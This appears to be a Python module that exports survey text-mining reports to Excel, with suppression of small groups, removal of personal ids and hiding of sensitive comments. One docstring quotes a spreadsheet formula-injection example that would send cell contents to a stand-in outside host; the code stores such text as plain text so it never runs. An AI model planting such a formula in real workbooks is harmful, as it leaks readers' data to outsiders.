"""Excel workbook (openpyxl): one sheet per table, coded responses and the codebook."""

from __future__ import annotations

import datetime as dt
import os
import zipfile
from collections.abc import Iterable, Mapping
from functools import lru_cache
from pathlib import Path

import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.cell import WriteOnlyCell
from openpyxl.utils import get_column_letter
from openpyxl.writer.excel import ExcelWriter

from .model import ReportData
from ..summary import secondary_levels
from ..survey import SurveyDefinition
from .views import HIDDEN_CHANGE, HIDDEN_INDICATOR, HIDDEN_THEME, METHOD_NAMES, hide_suppressed, method_lines

HEADER_FILL = PatternFill("solid", fgColor="DCE6F1")
PCT = "0.0%"

# (sheet name, attribute, {column: Norwegian header}, percent columns)
SHEETS = [
    ("Indikatorer", "indicators",
     {"wave": "Måling", "indicator": "Variabel", "label": "Indikator", "segment_var": "Segmentvariabel",
      "segment": "Segment", "share": "Andel positive", "ci_low": "KI nedre", "ci_high": "KI øvre",
      "n": "n (positive)", "base": "Grunnlag", "mean": "Snitt", "suppressed": "Skjult",
      "n_eff": "Effektiv n", "ci_method": "KI-metode", "share_unweighted": "Andel positive (uvektet)",
      "indicator_id": "Indikator-id"},
     {"share", "ci_low", "ci_high"}),
    ("Temaer", "themes",
     {"wave": "Måling", "question": "Spørsmål", "theme": "Tema-id", "label": "Tema", "segment_var": "Segmentvariabel",
      "segment": "Segment", "count": "n (nevner temaet)", "base": "Grunnlag (svarte)", "share": "Andel av svarte",
      "ci_low": "KI nedre", "ci_high": "KI øvre", "asked": "Spurt", "share_asked": "Andel av spurte",
      "respondents": "Respondenter", "share_all": "Andel av alle", "suppressed": "Skjult",
      "n_eff": "Effektiv n", "ci_method": "KI-metode", "value": "Segmentkode"},
     {"share", "ci_low", "ci_high", "share_asked", "share_all"}),
    ("Endring", "changes",
     {"kind": "Type", "key": "Id", "label": "Hva", "question": "Spørsmål", "prev_wave": "Forrige måling",
      "wave": "Måling", "prev_share": "Forrige andel", "share": "Andel", "diff": "Endring (andel)",
      "ci_low": "KI nedre (endring)", "ci_high": "KI øvre (endring)", "verdict": "Vurdering",
      "p_value": "p-verdi (ujustert)", "p_adjusted": "p-verdi (BH-justert)", "n_prev": "Grunnlag forrige",
      "n": "Grunnlag", "verdict_unadjusted": "Vurdering (ujustert)", "weighted": "Vektet", "suppressed": "Skjult",
      "coding_note": "Merknad (koding)"},
     {"prev_share", "share", "diff", "ci_low", "ci_high"}),
    ("Betydning", "impact",
     {"question": "Spørsmål", "theme": "Tema-id", "label": "Tema", "indicator": "Indikator",
      "indicator_label": "Indikatortekst", "share_with": "Andel positive med tema",
      "share_without": "Andel positive uten tema", "diff": "Forskjell", "ci_low": "KI nedre", "ci_high": "KI øvre",
      "n_with": "n med", "n_without": "n uten", "verdict": "Vurdering", "p_value": "p (ujustert)",
      "p_adjusted": "p (BH-justert)",
      "adjusted_pp": "Justert effekt (pp)", "adjusted_ci_low_pp": "Justert KI nedre (pp)",
      "adjusted_ci_high_pp": "Justert KI øvre (pp)", "adjusted_p": "Justert p (BH)",
      "adjusted_verdict": "Justert vurdering", "adjusted_method": "Modell"},
     {"share_with", "share_without", "diff", "ci_low", "ci_high"}),
    ("Sitater", "quotes",
     {"wave": "Måling", "question": "Spørsmål", "theme": "Tema-id", "label": "Tema", "text": "Sitat",
      "attribution": "Avsender", "rank": "Rekkefølge"}, set()),
]


# Cell-level numbers that a suppressed row (``suppressed`` = "Skjult") must not show, its bases included: the
# report views' lists (see textmine.report.views), and the impact sheet's own.
HIDDEN = {
    "indicators": HIDDEN_INDICATOR,
    "themes": HIDDEN_THEME,
    "changes": HIDDEN_CHANGE,
    "impact": ("share_with", "share_without", "diff", "ci_low", "ci_high", "p_value", "p_adjusted",
               "adjusted_pp", "adjusted_ci_low_pp", "adjusted_ci_high_pp", "adjusted_p"),
}


def _write(ws, df: pd.DataFrame, headers: dict[str, str], pct: set[str]) -> None:
    """Write a table to a write-only sheet: bold header, frozen first row, filters, % formats."""
    cols = [c for c in headers if c in df.columns] + [c for c in df.columns if c not in headers]
    for j, c in enumerate(cols, start=1):
        width = 60 if c in ("text", "text_clean") else min(40, max(10, len(headers.get(c, c)) + 2))
        ws.column_dimensions[get_column_letter(j)].width = width
    ws.freeze_panes = "A2"
    if len(cols):
        ws.auto_filter.ref = f"A1:{get_column_letter(len(cols))}{len(df) + 1}"
    header = []
    for c in cols:
        cell = WriteOnlyCell(ws, value=headers.get(c, c))
        if isinstance(cell.value, str) and cell.value.startswith("="):
            cell.data_type = "s"
        cell.font = Font(bold=True)
        cell.fill = HEADER_FILL
        cell.alignment = Alignment(wrap_text=True, vertical="top")
        header.append(cell)
    ws.append(header)
    pct_idx = {i for i, c in enumerate(cols) if c in pct}
    for row in df[cols].itertuples(index=False):
        out = []
        for i, v in enumerate(row):
            v = _cell(v)
            if i in pct_idx and v is not None:
                cell = WriteOnlyCell(ws, value=v)
                cell.number_format = PCT
                out.append(cell)
            elif isinstance(v, str) and v.startswith("="):
                out.append(_text_cell(ws, v))
            else:
                out.append(v)
        ws.append(out)


def _text_cell(ws, v: str) -> WriteOnlyCell:
    """A cell that shows ``v`` as text: openpyxl would store text starting with ``=`` as a live formula
    (a comment such as ``=HYPERLINK("http://x/?"&A1)`` must never run in the reader's Excel)."""
    cell = WriteOnlyCell(ws, value=v)
    cell.data_type = "s"
    return cell


def _cell(v):
    if v is None:
        return None
    try:
        if pd.isna(v):
            return None
    except (TypeError, ValueError):
        pass
    if hasattr(v, "item"):
        return v.item()
    if isinstance(v, str) and len(v) > EXCEL_CELL_MAX:
        # Excel holds at most 32,767 characters per cell (openpyxl would cut silently): cut visibly instead
        mark = f" … [avkortet i Excel: {len(v):,} tegn; hele teksten står i CSV/SAV-filene]".replace(",", " ")
        return v[: EXCEL_CELL_MAX - len(mark)] + mark
    return v


EXCEL_CELL_MAX = 32_767


ROW_LEVEL_SHEET = "Kodede svar"


def write_workbook(r: ReportData, path: str | Path, *, row_level: bool = True,
                   omit_columns: Iterable[str] = ()) -> Path:
    """Write the report tables, coded responses, codebook and method notes to ``path`` (.xlsx).

    ``row_level=False`` leaves out the one-row-per-comment sheet «Kodede svar» (summaries and checked quotes
    only); ``omit_columns`` are coded-answer columns (e.g. ``respondent_id``, identifying segments) left out of it."""
    path = Path(path)
    wb = Workbook(write_only=True)
    for name, attr, headers, pct in SHEETS:
        headers = _scale_headers(r, headers) if attr == "indicators" else headers
        _write(wb.create_sheet(name), hide_suppressed(getattr(r, attr), HIDDEN.get(attr, ())), headers, pct)
    notes: list[str] = []
    if row_level:
        notes.append(_write_coded(wb, r, set(omit_columns)))
    cb = pd.DataFrame(r.codebook or [], columns=["id", "label", "description", "keywords", "parent", "exclusive"])
    cb["keywords"] = cb["keywords"].map(lambda k: ", ".join(k) if isinstance(k, (list, tuple)) else k)
    _write(wb.create_sheet("Kodebok"), cb, {"id": "Tema-id", "label": "Tema", "description": "Beskrivelse",
                                            "keywords": "Nøkkelord", "parent": "Overordnet", "exclusive": "Eksklusiv"},
           set())
    method = pd.DataFrame(_with_notes(method_lines(r.method), notes), columns=["key", "value"])
    _write(wb.create_sheet("Metode"), method, {"key": "Punkt", "value": "Beskrivelse"}, set())
    wb.properties.creator = "textmine"
    _save_fixed(wb, path, export_time())
    return path


#: the export time when ``SOURCE_DATE_EPOCH`` is not set: reruns on the same input give byte-identical files. Not in
#: January: the .sav header spells the month out, and «Jan» is also a first name (scans of the outputs for personal
#: data would flag it)
DEFAULT_EXPORT_TIME = dt.datetime(2000, 2, 1)


def export_time(env: Mapping[str, str] | None = None) -> dt.datetime:
    """The creation time written into the exports (.xlsx, .sav): ``SOURCE_DATE_EPOCH`` (UTC seconds, the
    reproducible-builds convention) when set, else :data:`DEFAULT_EXPORT_TIME` — never the clock."""
    value = (os.environ if env is None else env).get("SOURCE_DATE_EPOCH", "").strip()
    if not value:
        return DEFAULT_EXPORT_TIME
    try:
        seconds = int(value)
    except ValueError:
        raise ValueError(f"SOURCE_DATE_EPOCH: expected whole seconds since 1970-01-01, got {value!r}") from None
    return dt.datetime.fromtimestamp(seconds, tz=dt.timezone.utc).replace(tzinfo=None)


def _save_fixed(wb: Workbook, path: Path, when: dt.datetime) -> None:
    """Save ``wb`` with ``when`` as its created/modified properties and as every zip entry's time
    (``Workbook.save`` would stamp the clock on both)."""
    if wb.write_only and not wb.worksheets:
        wb.create_sheet()
    wb.properties.created = wb.properties.modified = when
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, allowZip64=True) as archive:
        ExcelWriter(wb, archive).save()
    _fix_zip_times(path, when)


def _fix_zip_times(path: Path, when: dt.datetime) -> None:
    """Rewrite the zip ``path`` with ``when`` as every entry's time (same entries, order and compression)."""
    stamp = max(when, dt.datetime(1980, 1, 1)).timetuple()[:6]  # (zip times start in 1980)
    tmp = path.with_name(path.name + ".zip-tmp")
    try:
        with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED, allowZip64=True) as dst:
            for info in src.infolist():
                fixed = zipfile.ZipInfo(info.filename, date_time=stamp)
                fixed.compress_type, fixed.external_attr = info.compress_type, info.external_attr
                dst.writestr(fixed, src.read(info.filename))
        os.replace(tmp, path)
    finally:
        tmp.unlink(missing_ok=True)


def _with_notes(lines: list[tuple[str, str]], notes: list[str]) -> list[tuple[str, str]]:
    """The method lines with ``notes`` added to the line «Merknader» (made when there is none)."""
    if not notes:
        return lines
    key = METHOD_NAMES["warnings"]
    for i, (k, v) in enumerate(lines):
        if k == key:
            return lines[:i] + [(k, "; ".join([v, *notes]))] + lines[i + 1:]
    return lines + [(key, " ".join(notes))]


def _scale_headers(r: ReportData, headers: dict[str, str]) -> dict[str, str]:
    """«Snitt (1–5)»: the mean's header with the survey definition's scale (plain «Snitt» when unknown)."""
    scale = (r.method.get("labels") or {}).get("scale")
    return {**headers, "mean": f"Snitt ({scale})"} if scale else headers


CODED_HEADERS = {"respondent_id": "Respondent-id", "wave": "Måling", "question": "Spørsmål",
                 "text_clean": "Kommentar (anonymisert)", "themes": "Temaer", "type": "Type",
                 "confidence": "Sikkerhet", "needs_review": "Til gjennomgang", "is_non_answer": "Ikke-svar",
                 "language": "Språk"}


# headers of the sample survey's columns for tables built without a survey definition (the definition's labels win)
SAMPLE_COLUMN_HEADERS = {"sektor": "Sektor", "ansatte": "Antall ansatte", "naering": "Næring", "fylke": "Fylke",
                         "vekt": "Vekt"}


#: the row-level exports' running row number, in place of a respondent id that holds personal data
ROW_NUMBER = "radnummer"
ROW_NUMBER_HEADER = "Radnummer"


def personal_id_count(ids: pd.Series) -> int:
    """How many distinct ids in ``ids`` are personal data (a fødselsnummer/D-number, a phone number, an e-mail, a
    name …), by the project's detectors (:func:`textmine.classify.table.pii_in_columns`, the Redactor of the text
    column). Ids that are all digits are checked as numbers (a run of consecutive ids is not a list of phones;
    a fødselsnummer read as an integer has lost its leading zero). A count only: values are never returned."""
    from ..classify.table import pii_in_columns

    values = pd.Series(pd.unique(ids.dropna().astype(str).str.strip()), dtype=object)
    values = values[values != ""].reset_index(drop=True)
    if values.empty:
        return 0
    if values.str.fullmatch(r"\d{1,15}(?:\.0*)?").all():  # (whole numbers read as floats: "1019012480.0")
        values = pd.to_numeric(values)
    return int(sum(pii_in_columns(pd.DataFrame({"id": values})).values()))


def report_personal_ids(r: ReportData) -> int:
    """The number of the report's respondent ids that are personal data: the method data ``personal_ids`` (set by
    :func:`textmine.report.pipeline.build_report`) or, without it, counted now (:func:`personal_id_count`)."""
    n = (r.method or {}).get("personal_ids")
    if n is not None:
        return int(n)
    coded = r.coded
    if coded is None or "respondent_id" not in coded.columns:
        return 0
    return personal_id_count(coded["respondent_id"])


def export_rows(r: ReportData, omit: Iterable[str] = ()) -> tuple[pd.DataFrame, dict[str, int]]:
    """The rows of every row-level export («Kodede svar», kodede_svar.sav, the JSON's ``coded``): :func:`safe_coded_rows`
    (small cells, health comments) without the ``omit`` columns, the segments declared ``attribution: false``
    (method data ``unattributed``; the service leaves them out too) and ``health_flag``. When any respondent id is
    personal data (:func:`report_personal_ids`), the id column is left out and the rows get a running number
    (:data:`ROW_NUMBER`) instead. Returns (rows, counts: ``small``, ``health``, ``weight``, ``personal_ids``)."""
    omit = set(omit) | set((r.method or {}).get("unattributed") or ())
    segments = [c for c in r.segments if c in r.coded.columns and c not in omit]
    rows, n_small, n_health = safe_coded_rows(r.coded, segments, _min_cell(r))
    counts = {"small": n_small, "health": n_health, "weight": int(rows.attrs.get(WEIGHT_BLANKED_ATTR, 0)),
              "personal_ids": 0}
    rows = rows.drop(columns=[c for c in rows.columns if c in omit or c == "health_flag"])
    if "respondent_id" in rows.columns:
        counts["personal_ids"] = report_personal_ids(r)
        if counts["personal_ids"]:
            rows = rows.drop(columns=["respondent_id"])
            rows.insert(0, ROW_NUMBER, np.arange(1, len(rows) + 1, dtype="int64"))
    return rows, counts


def personal_id_note(id_column: str, n: int) -> str:
    """The method note on a respondent id left out of the row-level exports because it holds personal data."""
    ids = "id" if n == 1 else "id-er"
    return (f"Respondent-id («{id_column}») er utelatt fra de radvise eksportene fordi {n} {ids} inneholder "
            f"personopplysninger (for eksempel fødselsnummer, telefonnummer, e-post eller navn); radene er i stedet "
            f"nummerert («{ROW_NUMBER_HEADER}»).")


def _write_coded(wb, r: ReportData, omit: set[str]) -> str:
    """The row-level sheet: one row per coded comment (:func:`export_rows`: without theme dummies, the ``omit``
    columns and the ``attribution: false`` segments, a row number for personal ids); the survey definition's
    columns (segments, weight) under their labels, declared segment levels as display text. Returns the method
    note saying what was done to the rows."""
    coded, counts = export_rows(r, omit)
    declared = r.method.get("labels") or {}
    coded = coded.drop(columns=[c for c in coded.columns if c.startswith("theme_")])
    for col, display in (declared.get("values") or {}).items():
        if col in coded.columns:
            coded[col] = coded[col].map(lambda v, d=display: d.get(_level_key(v), v))
    first = {ROW_NUMBER: ROW_NUMBER_HEADER, **{k: CODED_HEADERS[k] for k in ("respondent_id", "wave")}}
    # then the survey's columns, as coded_view
    headers = {**first, **SAMPLE_COLUMN_HEADERS, **r.segments, **(declared.get("columns") or {}), **CODED_HEADERS}
    _write(wb.create_sheet(ROW_LEVEL_SHEET), coded, headers, set())
    note = row_level_note(counts["small"], counts["health"], _min_cell(r), n_weight=counts["weight"])
    if counts["personal_ids"]:
        note += " " + personal_id_note(str(r.method.get("id_column") or "respondent_id"), counts["personal_ids"])
    return note


# the comment text of a health-flagged comment in the row-level export (its theme codes stay)
HEALTH_NOTE = "[sensitiv personopplysning – vises ikke i eksport]"
# the survey definition's default min_cell, for report data without method notes
DEFAULT_MIN_CELL = SurveyDefinition.__dataclass_fields__["min_cell"].default


def _min_cell(r: ReportData) -> int:
    """The survey's small-cell threshold (``min_n`` of the method notes; the survey default without them)."""
    value = (r.method or {}).get("min_n")
    try:
        return int(value) if value is not None else DEFAULT_MIN_CELL
    except (TypeError, ValueError):
        return DEFAULT_MIN_CELL


def row_level_note(n_small: int, n_health: int, min_cell: int, *, n_weight: int = 0) -> str:
    """The one-line explanation of the row-level sheet's protections (sheet «Metode»)."""
    rows = "rad" if n_small == 1 else "rader"
    comments = "kommentar" if n_health == 1 else "kommentarer"
    weight = ""
    if n_weight:
        weight = (f" Vekten er fjernet i de samme radene ({n_weight}), fordi den kan røpe segmentet (f.eks. fylket)"
                  f" den er beregnet fra.")
    return (f"«{ROW_LEVEL_SHEET}»: {n_small} {rows} har fått segmentverdier fjernet fordi segmentet har færre enn "
            f"{min_cell} kommentatorer på spørsmålet i målingen (samme grense som for tabeller og sitater). "
            f"Når bare ett segment er for lite, er også det nest minste fjernet, og en respondent som er fjernet i én "
            f"rad, er fjernet i alle sine rader. Også kombinasjoner av segmenter (for eksempel fylke og sektor) med "
            f"færre enn {min_cell} kommentatorer er brutt opp ved at verdien i ett av segmentene er fjernet.{weight} "
            f"{n_health} {comments} med sensitive personopplysninger (helse, religion, legning, etnisitet, politikk, fagforening, straff) er erstattet med «{HEALTH_NOTE}» (temakodene er beholdt).")


#: ``attrs`` key of :func:`safe_coded_rows`' frame: the number of rows whose weight (and other per-respondent
#: columns) was blanked with their segment values
WEIGHT_BLANKED_ATTR = "weight_blanked"

# columns of the row-level rows that are not per-respondent values which could give a blanked segment back
_CODED_COLUMNS = frozenset(CODED_HEADERS) | {"health_flag"}


def safe_coded_rows(coded: pd.DataFrame, segments: list[str], min_cell: int, *,
                    weight_columns: Iterable[str] | None = None) -> tuple[pd.DataFrame, int, int]:
    """The row-level rows with the protections the summary's tables and quotes have: (rows, n small, n health).

    * Small combinations: so that filtering on several segment columns at once shows no group under ``min_cell``
      either, a combination of shown segment values with fewer than ``min_cell`` commenters (wave × question) has the
      value of one of its columns blanked (greedy local suppression, per respondent; see
      :func:`_blank_small_combinations`).
    * Small cells: a segment value is blanked in the rows of a cell (wave × question × segment value, as in the
      theme tables) with fewer than ``min_cell`` commenters (distinct respondents with a real comment; the cell's
      non-answers are blanked with it), so no cell the tables suppress can be picked out of the rows. So that a
      blank cannot be filled back in:
        - secondary rule: when exactly one level of a segment is small (wave × question), the next smallest level
          is blanked too (a blank could otherwise only mean that level);
        - per respondent: a respondent's value blanked in one row (one question) is blanked in all their rows of
          the wave;
        - the weight (``weight_columns``; by default every column that is neither a segment nor one of the
          coded-answer columns — the survey's weight, e.g. a post-stratification weight per county) is blanked in
          every row with a blanked segment value. The number of such rows is in ``rows.attrs["weight_blanked"]``.
    * Health data: a comment flagged ``health_flag`` (or flagged now by the health word lists) is replaced by
      :data:`HEALTH_NOTE`; its theme codes stay.

    ``n small`` counts the rows with any segment value blanked. ``coded`` is not changed."""
    out = coded.copy()
    changed = _blank_small_cells(out, segments, min_cell)
    if weight_columns is None:
        weight_columns = [c for c in out.columns if c not in _CODED_COLUMNS and c not in segments
                          and not str(c).startswith("theme_")]
    n_weight = 0
    if changed.any():
        for c in weight_columns:
            if c in out.columns:  # numeric weights stay numeric (NaN), for the .sav and the sheet's number cells
                numeric = pd.api.types.is_numeric_dtype(out[c]) and not pd.api.types.is_bool_dtype(out[c])
                out[c] = out[c].astype(float).where(~changed) if numeric else out[c].astype(object).where(~changed, None)
        n_weight = int(changed.sum()) if any(c in out.columns for c in weight_columns) else 0
    n_health = _hide_health_texts(out)
    out.attrs[WEIGHT_BLANKED_ATTR] = n_weight
    return out, int(changed.sum()), n_health


def _blank_small_cells(out: pd.DataFrame, segments: list[str], min_cell: int) -> np.ndarray:
    """Blank small cells' segment values in ``out`` (in place); returns the rows with any value blanked.

    Single segments (:func:`_blank_small_levels`) and combinations of segments (:func:`_blank_small_combinations`)
    in turn until neither blanks anything more (a combination's blanks can make a single level small)."""
    changed = np.zeros(len(out), dtype=bool)
    if not segments or not len(out) or min_cell <= 1:
        return changed
    rows = _RowKeys.of(out)
    shown = None
    while True:
        changed |= _blank_small_levels(out, segments, min_cell, rows)
        if len(segments) > 1:
            changed |= _blank_small_combinations(out, segments, min_cell, rows)
        now = int(out[segments].notna().to_numpy().sum())
        if now == shown:
            return changed
        shown = now


class _RowKeys:
    """Per-row keys of the row-level rows: the table cell (wave × question), the commenter (respondent id of a row
    with a real comment, else None: the tables count commenters) and the respondent (wave × id)."""

    def __init__(self, group: pd.DataFrame, commenter: pd.Series, person: np.ndarray):
        self.group, self.commenter, self.person = group, commenter, person

    @classmethod
    def of(cls, out: pd.DataFrame) -> "_RowKeys":
        cols = [c for c in ("wave", "question") if c in out.columns]
        group = pd.DataFrame({c: out[c].map(_key_text) for c in cols}, index=out.index)
        ids = out["respondent_id"] if "respondent_id" in out.columns else pd.Series(range(len(out)), index=out.index)
        ids = ids.map(_key_text)
        # commenters, as the tables count them: rows with a real comment (non-answers and blanks shown, not counted)
        real = np.ones(len(out), dtype=bool)
        if "is_non_answer" in out.columns:
            real &= pd.to_numeric(out["is_non_answer"], errors="coerce").fillna(0).to_numpy() == 0
        if "text_clean" in out.columns:
            real &= np.array([isinstance(t, str) and bool(t.strip()) for t in out["text_clean"].to_numpy()], dtype=bool)
        # a respondent: the same id in the same wave (a respondent has one row per question answered)
        wave = group["wave"] if "wave" in group.columns else pd.Series("", index=out.index)
        person = pd.factorize(pd.Series(list(zip(wave, ids)), index=out.index))[0]
        return cls(group, ids.where(real, None), person)

    def whole_respondents(self, rows: np.ndarray) -> np.ndarray:
        """``rows`` grown to every row of each respondent with a row in it."""
        return np.isin(self.person, self.person[rows]) if rows.any() else rows


def _blank_small_levels(out: pd.DataFrame, segments: list[str], min_cell: int, rows: _RowKeys) -> np.ndarray:
    """One segment at a time: blank the levels with fewer than ``min_cell`` commenters (per wave × question), the next
    smallest level with a single small one, per respondent (in place); returns the rows with a value blanked."""
    changed = np.zeros(len(out), dtype=bool)
    group = list(rows.group.columns)
    for c in segments:
        values = out[c].astype(object)
        present = values.notna().to_numpy()
        keys = rows.group.assign(**{"_seg": values.map(_key_text), "_id": rows.commenter})
        count = keys.groupby(group + ["_seg"], sort=False, dropna=False)["_id"].transform("nunique").to_numpy()
        small = (count < min_cell) & present
        # secondary rule, per wave × question: one small level → the next smallest level (by commenters) too
        pos = np.flatnonzero(present)
        if len(pos):
            cell = keys.iloc[pos][group + ["_seg"]].reset_index(drop=True).assign(_n=count[pos], _pos=pos)
            parts = cell.groupby(group, sort=False, dropna=False) if group else [(None, cell)]
            for _, part in parts:
                levels = part.groupby("_seg", sort=False)["_n"].first()
                n = levels.to_numpy()  # (every level here has rows, even one whose rows are all non-answers)
                extra = secondary_levels(n, n < min_cell, present=np.ones(len(n), dtype=bool), min_cell=min_cell)
                for level in levels.index[extra]:
                    small[part["_pos"].to_numpy()[part["_seg"].to_numpy() == level]] = True
        # per respondent: blanked in one of their rows → blanked in all of them
        small = rows.whole_respondents(small) & present
        if small.any():
            changed |= small
            out[c] = values.where(~small, None)
    return changed


#: up to this many segment columns every combination of two or more of them is checked; with more, the pairs and the
#: full combination (the number of combinations grows as 2^k)
ALL_COMBINATIONS_UP_TO = 5


def _segment_sets(segments: list[str]) -> list[tuple[str, ...]]:
    """The combinations of segment columns the row-level rows must keep at ``min_cell`` (largest first)."""
    from itertools import combinations

    k = len(segments)
    sizes = range(k, 1, -1) if k <= ALL_COMBINATIONS_UP_TO else (k, 2)
    return [s for n in sizes for s in combinations(segments, n)]


def _blank_small_combinations(out: pd.DataFrame, segments: list[str], min_cell: int, rows: _RowKeys) -> np.ndarray:
    """Local suppression (k-anonymity, k = ``min_cell``) over combinations of segment columns: a combination of
    shown values (rows with every column of the combination shown, per wave × question) with fewer than ``min_cell``
    commenters is small. Greedily, the column in the most small combinations (ties: the most distinct levels, then
    the first) is blanked in their rows (per respondent), until no combination is small (in place); returns the
    rows with a value blanked. A row with a blanked value counts in no combination holding that column."""
    changed = np.zeros(len(out), dtype=bool)
    group = list(rows.group.columns)
    n_levels = {c: out[c].nunique(dropna=True) for c in segments}
    sets = _segment_sets(segments)
    while True:
        keys = rows.group.assign(_id=rows.commenter, **{f"_s{i}": out[c].map(_key_text) for i, c in
                                                        enumerate(segments)})
        col = {c: f"_s{i}" for i, c in enumerate(segments)}
        shown = {c: out[c].notna().to_numpy() for c in segments}
        score = dict.fromkeys(segments, 0)
        small_rows: dict[str, np.ndarray] = {c: np.zeros(len(out), dtype=bool) for c in segments}
        for combo in sets:
            vis = np.logical_and.reduce([shown[c] for c in combo])
            if not vis.any():
                continue
            part = keys[vis]
            by = group + [col[c] for c in combo]
            count = part.groupby(by, sort=False, dropna=False)["_id"].transform("nunique").to_numpy()
            small = count < min_cell
            if not small.any():
                continue
            n_small = len(part[small].drop_duplicates(by))
            mask = np.zeros(len(out), dtype=bool)
            mask[np.flatnonzero(vis)[small]] = True
            for c in combo:
                score[c] += n_small
                small_rows[c] |= mask
        if not any(score.values()):
            return changed
        best = max(segments, key=lambda c: (score[c], n_levels[c], -segments.index(c)))
        blank = rows.whole_respondents(small_rows[best]) & shown[best]
        out[best] = out[best].astype(object).where(~blank, None)
        changed |= blank


def _key_text(v) -> str:
    """A cell as a grouping key: missing values one level of their own."""
    try:
        if v is None or pd.isna(v):
            return "\x00"
    except (TypeError, ValueError):
        pass
    return _level_key(v)


def _hide_health_texts(out: pd.DataFrame) -> int:
    if "text_clean" not in out.columns or not len(out):
        return 0
    flagged = np.zeros(len(out), dtype=bool)
    if "health_flag" in out.columns:
        flagged |= pd.to_numeric(out["health_flag"], errors="coerce").fillna(0).to_numpy() > 0
    flagger = _health_flagger()
    texts = out["text_clean"].astype(object).to_numpy()
    flagged |= np.array([isinstance(t, str) and bool(t.strip()) and flagger(t) for t in texts], dtype=bool)
    if flagged.any():
        out["text_clean"] = out["text_clean"].astype(object).where(~flagged, HEALTH_NOTE)
    return int(flagged.sum())


@lru_cache(maxsize=1)
def _health_flagger():
    """The cleaner's health check (word lists only: no lexicon or language models loaded)."""
    from ..preprocess.health import HealthFlagger
    from ..preprocess.normalize import normalize

    flagger = HealthFlagger.from_wordlists()
    return lambda text: flagger.flag(normalize(text))


def _level_key(v):
    """A cell as the survey definition writes its levels: 2.0 → "2"."""
    return str(int(v)) if isinstance(v, float) and v.is_integer() else str(v)
